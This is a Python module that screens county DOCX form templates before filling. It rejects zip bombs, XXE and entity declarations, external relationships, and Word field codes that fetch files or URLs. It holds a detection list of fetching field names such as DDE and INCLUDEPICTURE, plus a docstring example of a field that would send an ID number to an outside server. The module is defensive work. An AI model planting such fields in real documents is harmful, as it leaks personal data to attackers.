"""Reading a county's DOCX template safely, and refusing one that is dangerous to fill.

A template is a zip of XML parts that a clerk (or anyone who emails one) can edit.
Before anything is filled, :func:`read_package` refuses:

* **zip bombs**: too many entries, an entry or a total too big, an entry that
  inflates too much — the caps of :mod:`fanpin_forms.util.limits`, checked by
  :func:`fanpin_forms.util.zipguard.safe_zip` before a byte is inflated;
* **DTDs and entities** (``<!DOCTYPE``, ``<!ENTITY``: XXE, "billion laughs") in any XML
  part, templated or not — Word never writes them. XML is parsed with lxml with
  entities unresolved, no network and no DTD loading;
* **anything Word may fetch when the filled form is opened**: relationships with
  ``TargetMode="External"`` (links, remote images, attached templates, linked
  sub-documents), ``src``/``href`` attributes with a URL, and field codes
  (``w:instrText``, ``w:fldSimple/@w:instr``) that read files or URLs (INCLUDEPICTURE,
  INCLUDETEXT, LINK, DDE, DDEAUTO, IMPORT …), carry a URL or a UNC path, or carry a
  Jinja tag: ``INCLUDEPICTURE "http://x/{{ f_id_number }}"`` would send the ID number
  to a server as soon as the form is opened.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

from ..errors import Code, Problem, RenderError
from ..util.zipguard import ZipLimitError, safe_zip
from ..privacy.masking import mask_text

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_W = "{" + W_NS + "}"
#: field codes that read a file or a URL when Word updates fields (some do on opening)
FETCHING_FIELDS = frozenset({"INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "LINK", "DDE", "DDEAUTO", "IMPORT",
                             "DATABASE", "HYPERLINK", "AUTOTEXTLIST", "EMBED"})
_URL = re.compile(r"(?i)\b(?:https?|ftp|file|smb|mailto|ldap|gopher|res|mhtml|ms-[a-z-]+):|\\\\[^\\\s\"]+\\|//[\w.-]+/")
_JINJA = re.compile(r"\{\{|\{%|\{#")
_FETCH_ATTRS = frozenset({"href", "src"})
_EXTERNAL_KINDS = {
    "hyperlink": "超链接", "image": "远程图片", "attachedTemplate": "附加模板", "subDocument": "子文档",
    "oleObject": "链接对象", "frame": "网页框架", "aFChunk": "嵌入的外部内容",
}


def _fail(code: Code, label: str, **context: object) -> RenderError:
    return RenderError(Problem(code, {"path": label, **context}))


def _read_entry(zf: zipfile.ZipFile, info: zipfile.ZipInfo) -> bytes:
    """An entry's bytes: :mod:`zipfile` never inflates more than the size :func:`safe_zip` checked."""
    with zf.open(info) as fh:
        return fh.read()


def read_package(data: bytes, label: str) -> dict[str, tuple[zipfile.ZipInfo, bytes]]:
    """Every entry of the template (name → (info, bytes)), after every check of this module."""
    try:
        with safe_zip(io.BytesIO(data)) as zf:
            entries = {info.filename: (info, _read_entry(zf, info)) for info in zf.infolist()}
    except ZipLimitError as exc:
        raise _fail(Code.RENDER_TEMPLATE_ZIP, label, why=exc.why) from None
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, KeyError, EOFError, ValueError, NotImplementedError,
            RuntimeError) as exc:  # RuntimeError: an encrypted entry; NotImplementedError: an unknown compression
        raise RenderError.of(Code.RENDER_TEMPLATE_UNREADABLE, path=label, why=exc) from None
    problems = [p for name, (_info, blob) in entries.items() if _is_xml(name) for p in _part_problems(name, blob, label)]
    if problems:
        raise RenderError(problems)
    return entries


def _is_xml(name: str) -> bool:
    return name.lower().endswith((".xml", ".rels", ".vml"))


def _parser():
    from lxml import etree

    return etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, dtd_validation=False,
                           huge_tree=False)


def _part_problems(name: str, blob: bytes, label: str) -> list[Problem]:
    """What is wrong with one XML part (empty when it is safe)."""
    from lxml import etree

    if re.search(rb"<!\s*(?:DOCTYPE|ENTITY)", blob):
        return [Problem(Code.RENDER_TEMPLATE_DTD, {"path": label, "part": name})]
    try:
        root = etree.fromstring(blob, _parser())
    except etree.XMLSyntaxError as exc:
        return [Problem(Code.RENDER_TEMPLATE_UNREADABLE, {"path": label, "why": f"{name}：{exc}"})]
    if root.getroottree().docinfo.doctype:
        return [Problem(Code.RENDER_TEMPLATE_DTD, {"path": label, "part": name})]
    problems = list(_external_links(name, root, label)) + list(_attribute_urls(name, root, label))
    for field in _field_codes(root):
        problems.extend(_field_problems(name, field, label))
    return problems


def _external_links(name: str, root, label: str) -> Iterator[Problem]:
    if not name.endswith(".rels"):
        return
    for rel in root.iter("{*}Relationship"):
        rtype = rel.get("Type", "").rsplit("/", 1)[-1]
        if rel.get("TargetMode", "") == "External" or rtype == "aFChunk":
            yield Problem(Code.RENDER_TEMPLATE_EXTERNAL, {
                "path": label, "part": name, "kind": _EXTERNAL_KINDS.get(rtype, rtype or "外部链接"),
                "target": _shown(rel.get("Target", ""))})


def _attribute_urls(name: str, root, label: str) -> Iterator[Problem]:
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        for attr, value in el.attrib.items():
            if attr.rsplit("}", 1)[-1] in _FETCH_ATTRS and (_URL.search(value) or _JINJA.search(value)):
                yield Problem(Code.RENDER_TEMPLATE_EXTERNAL, {
                    "path": label, "part": name, "kind": "远程图片或链接", "target": _shown(value)})


def _field_codes(root) -> Iterator[str]:
    """The instruction of every field, whole: a complex field's ``w:instrText`` runs are joined
    from its ``begin`` to its ``separate`` (or ``end``); fields nest. Simple fields give ``w:instr``."""
    open_fields: list[tuple[list[str], list[bool]]] = []  # (instruction pieces, [instruction complete])
    for el in root.iter(f"{_W}fldChar", f"{_W}instrText", f"{_W}fldSimple"):
        if el.tag == f"{_W}fldSimple":
            yield el.get(f"{_W}instr", "")
        elif el.tag == f"{_W}instrText":
            if open_fields and not open_fields[-1][1][0]:
                open_fields[-1][0].append(el.text or "")
            else:
                yield el.text or ""
        else:
            kind = el.get(f"{_W}fldCharType")
            if kind == "begin":
                open_fields.append(([], [False]))
            elif kind == "separate" and open_fields and not open_fields[-1][1][0]:
                open_fields[-1][1][0] = True
                yield "".join(open_fields[-1][0])
            elif kind == "end" and open_fields:
                pieces, complete = open_fields.pop()
                if not complete[0]:
                    yield "".join(pieces)
    for pieces, complete in open_fields:
        if not complete[0]:
            yield "".join(pieces)


def _field_problems(part: str, code: str, label: str) -> Iterator[Problem]:
    words = code.split()
    kind = words[0].upper() if words else ""
    context = {"path": label, "part": part, "field": _shown(code)}
    if _JINJA.search(code):
        yield Problem(Code.RENDER_TEMPLATE_FIELD_VAR, context)
    elif kind in FETCHING_FIELDS and (kind != "HYPERLINK" or _URL.search(code)):
        yield Problem(Code.RENDER_TEMPLATE_FIELD_FETCH, context)
    elif _URL.search(code):
        yield Problem(Code.RENDER_TEMPLATE_EXTERNAL, {"path": label, "part": part, "kind": f"域代码 {kind}",
                                                      "target": _shown(code)})


def _shown(text: str) -> str:
    """A target or field code as a message shows it: one line, masked, not too long."""
    one_line = " ".join(text.split())
    return mask_text(one_line if len(one_line) <= 80 else one_line[:77] + "…")


__all__ = ["FETCHING_FIELDS", "read_package"]
